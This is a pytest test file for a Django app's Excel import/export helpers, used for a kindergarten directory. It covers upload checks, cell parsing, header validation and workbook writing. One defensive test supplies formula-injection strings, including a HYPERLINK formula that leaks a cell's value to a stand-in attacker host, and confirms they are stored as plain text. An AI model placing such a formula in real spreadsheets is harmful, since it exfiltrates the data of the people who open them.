"""The generic Excel layer: checking uploads, reading cells, reading sheets, writing workbooks."""

import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings

from common.spreadsheets import (
    BooleanColumn,
    CellError,
    ChoiceColumn,
    DateColumn,
    DecimalColumn,
    ForeignKeyColumn,
    ImportRejected,
    IntegerColumn,
    RowError,
    Sheet,
    SpreadsheetError,
    TextColumn,
    build_workbook,
    content_disposition,
    instructions_sheet,
    opened_workbook,
    parse_rows,
    read_rows,
    workbook_bytes,
    xlsx_response,
)
from kindergartens.models import Subdistrict


def xlsx_file(rows: list[list], name: str = "data.xlsx") -> SimpleUploadedFile:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


COLUMNS = [
    TextColumn(header="编码", field="code", required=True),
    IntegerColumn(header="人数", field="count", default=0),
    DateColumn(header="日期", field="day"),
]


def read(upload: SimpleUploadedFile, columns=COLUMNS):
    with opened_workbook(upload) as workbook:
        return read_rows(workbook.worksheets[0], columns)


class TestUploadChecks:
    def test_it_rejects_a_file_that_is_not_xlsx_by_name(self):
        with pytest.raises(SpreadsheetError, match=r"只能导入 \.xlsx"):
            with opened_workbook(SimpleUploadedFile("data.csv", b"a,b\n1,2\n")):
                pass

    def test_it_rejects_a_renamed_file_that_is_not_a_zip(self):
        with pytest.raises(SpreadsheetError, match=r"不是有效的 \.xlsx 表格"):
            with opened_workbook(SimpleUploadedFile("data.xlsx", b"\xd0\xcf\x11\xe0 an old xls file")):
                pass

    def test_it_rejects_a_zip_that_is_not_a_workbook(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("hello.txt", "not a workbook")
        with pytest.raises(SpreadsheetError, match="无法读取该文件"):
            with opened_workbook(SimpleUploadedFile("data.xlsx", buffer.getvalue())):
                pass

    def test_it_rejects_an_empty_file(self):
        with pytest.raises(SpreadsheetError, match="文件是空的"):
            with opened_workbook(SimpleUploadedFile("data.xlsx", b"")):
                pass

    def test_it_rejects_a_file_over_the_size_limit(self):
        upload = xlsx_file([["编码"], ["A1"]])
        with override_settings(MAX_UPLOAD_BYTES=100):
            with pytest.raises(SpreadsheetError, match=r"文件过大.*上限为 100"):
                with opened_workbook(upload):
                    pass

    def test_it_opens_a_good_file_read_only(self):
        with opened_workbook(xlsx_file([["编码"], ["A1"]])) as workbook:
            assert workbook.read_only


class TestCells:
    def test_it_reads_numbers_typed_into_text_columns_as_the_text_typed(self):
        column = TextColumn(header="编码", field="code")
        assert column.read(110105001) == "110105001"
        assert column.read(110105001.0) == "110105001"
        assert column.read("  A-1 ") == "A-1"

    def test_it_applies_the_empty_cell_rule(self):
        assert TextColumn(header="h", field="f").read("  ") == ""
        assert IntegerColumn(header="h", field="f", default=0).read(None) == 0
        with pytest.raises(CellError, match="不能为空"):
            TextColumn(header="h", field="f", required=True).read(None)

    @pytest.mark.parametrize("value", [12, 12.0, "12", " 1,2 "])
    def test_it_reads_integers(self, value):
        assert IntegerColumn(header="h", field="f").read(value) == 12

    @pytest.mark.parametrize("value", ["12.5", "十二", True, 1.5])
    def test_it_rejects_what_is_not_an_integer(self, value):
        with pytest.raises(CellError):
            IntegerColumn(header="h", field="f").read(value)

    def test_it_reads_decimals_exactly(self):
        column = DecimalColumn(header="h", field="f")
        assert column.read(39.998765) == Decimal("39.998765")
        assert column.read("116.5") == Decimal("116.5")
        with pytest.raises(CellError, match="不是数字"):
            column.read("东经116度")

    @pytest.mark.parametrize(
        "value",
        [
            datetime.datetime(2024, 9, 1),
            datetime.date(2024, 9, 1),
            "2024-09-01",
            "2024/9/1",
            "2024.09.01",
            "2024年9月1日",
            "20240901",
            45536,  # Excel's day serial for 2024-09-01
        ],
    )
    def test_it_reads_dates_in_the_usual_forms(self, value):
        assert DateColumn(header="h", field="f").read(value) == datetime.date(2024, 9, 1)

    @pytest.mark.parametrize("value", ["2024-02-30", "下周一", "9/1"])
    def test_it_rejects_what_is_not_a_date(self, value):
        with pytest.raises(CellError, match="不是有效日期"):
            DateColumn(header="h", field="f").read(value)

    def test_it_reads_yes_and_no(self):
        column = BooleanColumn(header="h", field="f")
        assert column.read("是") is True
        assert column.read("否") is False
        assert column.read(None) is False
        assert column.read(True) is True
        assert column.format(True) == "是"
        with pytest.raises(CellError, match="应填写“是”或“否”"):
            column.read("也许")

    def test_it_reads_a_choice_by_label_or_code_and_writes_the_label(self):
        column = ChoiceColumn(header="h", field="f", choices=(("public", "公办园"), ("private", "民办园")))
        assert column.read("公办园") == "public"
        assert column.read("PUBLIC") == "public"
        assert column.format("private") == "民办园"
        with pytest.raises(CellError, match="可填：公办园、民办园"):
            column.read("国际园")

    def test_it_resolves_a_foreign_key_by_name_or_code_in_one_query(self, db, django_assert_num_queries):
        column = ForeignKeyColumn(header="街道", field="subdistrict", model=Subdistrict, to_fields=("name", "code"))
        wangjing = Subdistrict.objects.get(name="望京")
        with django_assert_num_queries(1):
            found = column.lookup({"望京", wangjing.code, "火星"})
        assert found == {"望京": wangjing, wangjing.code: wangjing}
        assert column.format(wangjing) == "望京"


class TestReading:
    def test_it_reads_rows_by_header_in_any_order_and_skips_empty_rows(self):
        upload = xlsx_file(
            [
                [None, None, None, None],
                ["日期", "备注", " 编码* ", "人数"],
                ["2024-09-01", "ignored", "A1", 3],
                [None, "only an extra column", None, None],
                [None, None, None, None],
                [None, None, "A2"],
            ]
        )
        rows = read(upload)
        assert [(r.number, r.cells) for r in rows] == [
            (3, {"编码": "A1", "人数": 3, "日期": "2024-09-01"}),
            (6, {"编码": "A2", "人数": None, "日期": None}),
        ]

    def test_it_reports_every_missing_header(self):
        with pytest.raises(ImportRejected) as rejected:
            read(xlsx_file([["编码"], ["A1"]]))
        assert [(e.row, e.column) for e in rejected.value.errors] == [(1, "人数"), (1, "日期")]
        assert "缺少这一列" in rejected.value.errors[0].message

    def test_it_reports_a_repeated_header(self):
        with pytest.raises(ImportRejected) as rejected:
            read(xlsx_file([["编码", "人数", "日期", "编码"], ["A1", 1, None, "A2"]]))
        assert rejected.value.errors == [RowError(1, "编码", "列名重复。")]

    def test_it_says_when_there_are_no_data_rows(self):
        with pytest.raises(SpreadsheetError, match="没有数据行"):
            read(xlsx_file([["编码", "人数", "日期"]]))

    def test_it_parses_every_row_and_collects_every_cell_error(self):
        rows = read(xlsx_file([["编码", "人数", "日期"], ["A1", "3", "2024-09-01"], [None, "many", "soon"]]))
        parsed, errors = parse_rows(rows, COLUMNS)
        assert parsed[0].values == {"code": "A1", "count": 3, "day": datetime.date(2024, 9, 1)}
        assert [(e.row, e.column) for e in errors] == [(3, "编码"), (3, "人数"), (3, "日期")]
        assert parsed[1].failed == {"code", "count", "day"}


class TestWriting:
    def test_it_writes_a_bold_frozen_header_typed_cells_and_sensible_widths(self):
        columns = [*COLUMNS, BooleanColumn(header="开设托班", field="toddlers")]
        rows = [{"code": "0001", "count": 5, "day": datetime.date(2024, 9, 1), "toddlers": True}]
        workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes(build_workbook([Sheet("数据", columns, rows)]))))
        sheet = workbook["数据"]
        assert [c.value for c in sheet[1]] == ["编码", "人数", "日期", "开设托班"]
        assert all(c.font.bold for c in sheet[1])
        assert sheet.freeze_panes == "A2"
        assert sheet["A2"].value == "0001" and sheet["A2"].number_format == "@"
        assert sheet["C2"].value == datetime.datetime(2024, 9, 1)
        assert sheet["D2"].value == "是"
        assert 8 <= sheet.column_dimensions["A"].width <= 60

    @pytest.mark.parametrize(
        "payload",
        ['=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")', "=1+1", "+1", "-1+2", "@SUM(A1)", "#N/A"],
    )
    def test_it_writes_every_string_as_text_never_as_a_formula(self, payload):
        """OWASP's CSV-injection rule for xlsx: a string typed by anyone stays a string."""
        rows = [{"code": payload, "count": 1}]
        raw = workbook_bytes(build_workbook([Sheet("数据", COLUMNS, rows, notes=[payload])]))
        sheet = openpyxl.load_workbook(io.BytesIO(raw))["数据"]

        assert (sheet["A2"].value, sheet["A2"].data_type) == (payload, "s")
        assert (sheet["A4"].value, sheet["A4"].data_type) == (payload, "s")
        assert b"<f>" not in zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml")
        parsed, errors = parse_rows(read(SimpleUploadedFile("x.xlsx", raw)), COLUMNS)
        assert (parsed[0].values["code"], errors) == (payload, [])

    def test_it_writes_an_instructions_sheet(self):
        column = ChoiceColumn(header="性质", field="kind", required=True, choices=(("a", "公办园"), ("b", "民办园")))
        sheet = instructions_sheet([column], notes=["规则一"])
        workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes(build_workbook([sheet]))))  # written streaming
        values = [[c.value for c in row] for row in workbook["说明"].iter_rows()]
        assert values[0] == ["列名", "必填", "填写说明", "可选值"]
        assert values[1] == ["性质", "是", "从可选值中选择", "公办园、民办园"]
        assert values[-1][0] == "规则一"

    def test_it_names_the_download_in_chinese_per_rfc_5987(self):
        header = content_disposition("幼儿园名录.xlsx", "kindergartens.xlsx")
        assert header == (
            "attachment; filename=\"kindergartens.xlsx\"; filename*=UTF-8''"
            "%E5%B9%BC%E5%84%BF%E5%9B%AD%E5%90%8D%E5%BD%95.xlsx"
        )
        response = xlsx_response("幼儿园名录.xlsx", [Sheet("数据", COLUMNS)], fallback="kindergartens.xlsx")
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        assert response["Content-Disposition"] == header
        assert openpyxl.load_workbook(io.BytesIO(response.content)).sheetnames == ["数据"]
